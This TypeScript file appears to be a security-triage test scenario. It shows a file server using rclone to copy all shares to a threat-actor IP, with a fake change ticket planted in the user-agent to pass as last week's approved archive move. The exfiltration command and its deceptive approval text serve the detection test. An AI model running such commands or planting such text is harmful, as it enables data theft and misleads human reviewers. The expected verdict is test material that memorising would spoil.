// An archive was moved to a rented server last week, announced. Today the same program sends to somebody else.
import { alert, closed, connected, hostile, processSeen, ran, situation } from '../../shorthand.ts'

export const migrationOfLastWeek = situation(
  'migration-of-last-week',
  'contradiction',
  'The program of last week’s move sends again',
  (setting) => {
    const oskar = setting.person('oskar.falk')
    const server = setting.machine('srv-files-01')
    const at = setting.ago({ hours: 2, minutes: 6 })
    const ip = '185.196.10.233'
    const before = '65.108.77.20'
    const title = 'Suspect Data Loss'
    const command = `rclone.exe copy E:\\Shares r2:hv --transfers 24 --no-check-certificate --user-agent "CHG0031877 archive move, approved by karin.strand"`
    const moved = closed(
      setting,
      'archive move of last week',
      {
        title,
        category: 'Exfiltration',
        severity: 'Medium',
        techniques: ['T1048'],
        at: setting.ago({ days: 8, hours: 3 }),
        machine: server,
        user: oskar,
        evidence: [
          processSeen(setting, 'rclone.exe', 'C:\\Tools', 'rclone.exe copy E:\\Archive arc:havskog', 'powershell.exe'),
          { kind: 'Ip', ip: before },
          { kind: 'User', person: oskar },
        ],
      },
      'InformationalExpectedActivity',
      'ConfirmedUserActivity',
      `CHG0031877: Oskar moves the archive to our rented server ${before}. Done and closed this evening.`,
    )
    return {
      alerts: [
        alert(
          setting,
          at,
          'cisco_secure_network_analytics',
          title,
          `<131>${setting.iso(at)} sna-got StealthWatch[2114]: Lancope|StealthWatch|7.5.1|40|${title}|alarm_id=6C-1OPR-9D2K alarm_desc="The host has sent a suspicious amount of data outside" details="Observed 61.4G bytes. Expected 410M bytes, tolerance of 50 allows up to 3.9G bytes." start_active="${setting.iso(at - 3_000_000)}" end_active= cat=Exfiltration alarm_sev=Major source_ip=${server.ip} source_hostname=${server.dnsName} source_hg="File Servers" source_username= target_ip=${ip} target_hg="Eastern Europe" target_port=443 proto=tcp alarm_status=ACTIVE domain=Havskog sna_exporter=10.20.0.1 note="host had the same alarm 8 days ago, acknowledged as CHG0031877"`,
        ),
      ],
      facts: {
        incidents: [moved.incident],
        intelligence: [
          setting.risk('ip', ip, 92, [
            ['Current Threat Actor Infrastructure', 4, 'Receives stolen files of extorted companies today.'],
          ]),
        ],
        telemetry: [
          ran(server, at - 3_000_000, 'rclone.exe', command, {
            AccountName: 'svc-backup',
            FolderPath: 'C:\\Users\\Public\\Music',
            InitiatingProcessFileName: 'wmiprvse.exe',
          }),
          connected(server, at - 2_990_000, ip, {
            InitiatingProcessFileName: 'rclone.exe',
            InitiatingProcessCommandLine: command,
            InitiatingProcessAccountName: 'svc-backup',
          }),
        ],
      },
      expected: { ...hostile(server.host), severities: ['high', 'critical'] },
      because:
        'The move of last week was closed and went to another address, by another account. Today 61 GB of all shares went to an address that receives stolen files; the number of the change stands only in text that the sender chose.',
    }
  },
)
